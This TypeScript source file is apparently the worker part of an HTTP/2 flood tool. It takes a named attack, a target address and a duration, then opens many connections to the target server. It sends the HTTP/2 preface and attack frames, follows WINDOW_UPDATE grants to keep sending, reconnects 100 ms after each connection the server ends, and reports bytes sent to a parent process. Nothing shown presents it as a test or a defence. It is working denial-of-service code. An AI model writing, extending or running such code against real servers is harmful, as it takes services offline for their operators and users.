// A process that attacks a server for as long as it is told to. It comes back soon after it was cut off.
import type { Socket } from 'node:net';
import { connect } from 'node:net';
import type { Attack, Target } from './flood-attacks.ts';
import { attacks, messageBytes } from './flood-attacks.ts';
import { defaultWindow, frameHeaderBytes, frameType, preface } from './http2-frames.ts';

export interface FloodJob {
  readonly attack: string;
  readonly target: Target;
  readonly seconds: number;
}

export interface FloodResult {
  /** Connections that the server has ended. */
  readonly cut: number;
  readonly megabytes: number;
}

const returnAfterMs = 100;

function flood({ attack, target, seconds }: FloodJob): Promise<FloodResult> {
  const found = attacks.find(({ name }) => name === attack);
  if (found === undefined) throw new Error(`there is no attack "${attack}"`);
  const open = new Set<Socket>();
  const sent = { cut: 0, bytes: 0, isOver: false };
  const begin = () => {
    if (sent.isOver) return;
    const socket = attackOnce(found, target, (bytes) => {
      sent.bytes += bytes;
    });
    open.add(socket);
    socket.once('close', () => {
      open.delete(socket);
      if (sent.isOver) return;
      sent.cut++;
      setTimeout(begin, returnAfterMs);
    });
  };
  for (let n = 0; n < found.connections; n++) begin();
  return new Promise((resolve) => {
    setTimeout(() => {
      sent.isOver = true;
      for (const socket of open) socket.destroy();
      resolve({ cut: sent.cut, megabytes: sent.bytes / 2 ** 20 });
    }, seconds * 1000);
  });
}

/** One connection. It reads what it gets, and goes on as long as the server does. */
function attackOnce(attack: Attack, target: Target, onSent: (bytes: number) => void): Socket {
  const [host = '', port = ''] = target.address.split(':');
  const socket = connect(Number(port), host);
  const { more, everyMs } = attack;
  let round = 0;
  const write = (bytes: Buffer) => {
    onSent(bytes.length);
    return socket.write(bytes);
  };
  let window = attack.keepsToWindow === true ? defaultWindow : Number.POSITIVE_INFINITY;
  let isWaiting = false;
  const goOn = () => {
    if (more === undefined || !socket.writable) return;
    isWaiting = window < messageBytes;
    if (isWaiting) return;
    window -= messageBytes;
    const isTaken = write(more(target, round++));
    if (everyMs !== undefined) setTimeout(goOn, everyMs);
    else if (isTaken) setImmediate(goOn);
    else socket.once('drain', goOn);
  };
  socket.setNoDelay(true);
  socket.on('error', () => socket.destroy());
  const read = windowReader((increment) => {
    window += increment;
    if (isWaiting) goOn();
  });
  socket.on('data', attack.keepsToWindow === true ? read : () => undefined);
  socket.once('connect', () => {
    write(Buffer.concat([preface, attack.first(target)]));
    goOn();
  });
  return socket;
}

/** Looks for what the server grants the first stream. */
function windowReader(onGranted: (increment: number) => void): (chunk: Buffer) => void {
  let rest: Buffer = Buffer.alloc(0);
  return (chunk) => {
    const bytes = rest.length === 0 ? chunk : Buffer.concat([rest, chunk]);
    let at = 0;
    for (let end = 0; at + frameHeaderBytes <= bytes.length; at = end) {
      end = at + frameHeaderBytes + bytes.readUIntBE(at, 3);
      if (end > bytes.length) break;
      const isGrant = bytes[at + 3] === frameType.windowUpdate && bytes.readUInt32BE(at + 5) === 1;
      if (isGrant) onGranted(bytes.readUInt32BE(at + frameHeaderBytes));
    }
    rest = bytes.subarray(at);
  };
}

process.on('message', (job: FloodJob) => {
  flood(job).then(
    (result) => process.send?.({ result }),
    (error: unknown) => process.send?.({ error: String(error) }),
  );
});
